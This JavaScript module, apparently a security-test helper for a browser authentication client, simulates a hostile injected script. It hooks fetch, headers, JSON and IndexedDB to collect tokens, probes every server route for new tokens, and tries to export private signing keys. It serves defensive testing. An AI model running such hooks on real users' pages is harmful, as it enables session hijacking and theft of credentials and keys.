// Hostile script in the app's own page: what it gets to see, and what it tries.

/**
 * Before anything else runs in a page: looks over the client's shoulder, wherever a secret might pass. What was seen is in
 * `window.loot` as texts, and access tokens in `window.stolen`.
 */
export const spy = () => {
  window.loot = [];
  window.stolen = [];
  const note = (...what) => {
    for (const one of what) {
      try {
        window.loot.push(typeof one === "string" ? one : JSON.stringify(one));
      } catch {
        // Nothing that can be written down.
      }
    }
  };
  const over = (object, name, look) => {
    const own = object[name];
    object[name] = function (...given) {
      look(given, this);
      const result = Reflect.apply(own, this, given);
      Promise.resolve(result).then(note, note);
      return result;
    };
  };
  const { set } = Headers.prototype;
  Headers.prototype.set = function (name, value) {
    if (/^authorization$/i.test(name)) window.stolen.push(value.split(" ")[1]);
    note(value);
    return set.call(this, name, value);
  };
  over(window, "fetch", (given) => {
    note(...given);
    for (const one of given) if (one?.headers) note([...new Headers(one.headers)]);
  });
  for (const name of ["text", "json"]) over(Response.prototype, name, () => {});
  for (const name of ["parse", "stringify"]) {
    const own = JSON[name];
    JSON[name] = (...given) => {
      const result = own(...given);
      for (const one of [given[0], result]) if (typeof one === "string") window.loot.push(one);
      return result;
    };
  }
  over(IDBObjectStore.prototype, "put", (given) => note(...given));
  over(BroadcastChannel.prototype, "postMessage", (given) => note(...given));
  over(SubtleCrypto.prototype, "sign", (given) => note(new TextDecoder().decode(given[2])));
};

/** Every route of the server as its path and method; those that would end the session come last. */
export async function routesOf(issuer) {
  const { paths } = await (await fetch(`${issuer}/openapi.json`)).json();
  const ends = ([path, method]) => Number(method === "delete" || /logout|change|reset/.test(path));
  return Object.entries(paths)
    .flatMap(([path, methods]) => Object.keys(methods).map((method) => [path, method]))
    .filter(([path]) => !/^\/(openapi|docs|revocations$)/.test(path))
    .sort((one, other) => ends(one) - ends(other));
}

/** In the page: what the client and all that it holds show of themselves. */
export const walkClient = () => {
  const seen = new Set();
  const found = [];
  const walk = (value) => {
    if (typeof value === "string") found.push(value);
    if (typeof value === "function") found.push(String(value));
    if (Object(value) !== value || seen.has(value)) return;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) {
      try {
        walk(value[key]);
      } catch {
        // A getter of a prototype.
      }
    }
  };
  walk(window.client);
  return found.join("\n");
};

/**
 * In the page: asks every route in every way that might bring a token, with the cookie, with a proof of the key in
 * `window.pairs` too, and as the user.
 */
export const askEverything = async ({ issuer, routes, fills }) => {
  const { createProver } = await import("/relatch/proof.js");
  const prover = createProver({ now: Date.now }, issuer);
  const proven = async (url, init) => {
    const DPoP = await prover.prove(window.pairs[0], init.method, url);
    return fetch(url, { ...init, headers: { ...init.headers, DPoP } });
  };
  const answers = [];
  const ask = async (send, path, method, body) => {
    const headers = body ? { "Content-Type": "application/json" } : {};
    try {
      const signal = AbortSignal.timeout(2000);
      const init = { method, body, headers, credentials: "include", signal };
      const response = await send(issuer + path, init);
      answers.push(`${method} ${path} ${response.status} ${[...response.headers]} ${await response.text()}`);
    } catch (error) {
      answers.push(`${method} ${path} ${error.name}`);
    }
  };
  const bodies = ["{}", '{"delivery":"body"}', '{"refresh_token":""}'];
  for (const [template, method] of routes) {
    const path = template.replace(/\{(\w+)\}/g, (_, name) => fills[name] ?? "1");
    const given = /post|put|patch/.test(method) ? bodies : [undefined];
    for (const body of given) {
      for (const send of [fetch, proven, window.client.fetch])
        await ask(send, path, method.toUpperCase(), body);
    }
  }
  return answers;
};

/** In the page: the keys that the client keeps, in `window.pairs`, and their private halves in `window.keys`. */
export const findKeys = async () => {
  const done = (request) =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  const database = await done(indexedDB.open("relatch"));
  const records = await done(database.transaction("sessions").objectStore("sessions").getAll());
  database.close();
  window.pairs = records.map(({ key }) => key);
  window.keys = window.pairs.map(({ privateKey }) => privateKey);
  return window.keys.length;
};

/** In a page: tries to get what `window.keys` are made of, and gives the ways that led there. */
export const exportKeys = async () => {
  const ways = [];
  const attempt = (way, promise) => promise.then(() => ways.push(way)).catch(() => {});
  const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, [
    "wrapKey",
    "encrypt",
  ]);
  const wrap = { name: "AES-GCM", iv: new Uint8Array(12) };
  for (const key of window.keys.flatMap((key) => [key, structuredClone(key)])) {
    for (const format of ["jwk", "pkcs8", "raw", "spki"]) {
      await attempt(`exported as ${format}`, crypto.subtle.exportKey(format, key));
      await attempt(`wrapped as ${format}`, crypto.subtle.wrapKey(format, key, wrapping, wrap));
    }
    if (/"(d|k|x)"/.test(JSON.stringify(key))) ways.push("written down");
    try {
      Object.defineProperty(key, "extractable", { value: true });
    } catch {
      // It stays what it is.
    }
    await attempt("exported when it was made to say so", crypto.subtle.exportKey("pkcs8", key));
  }
  return ways;
};
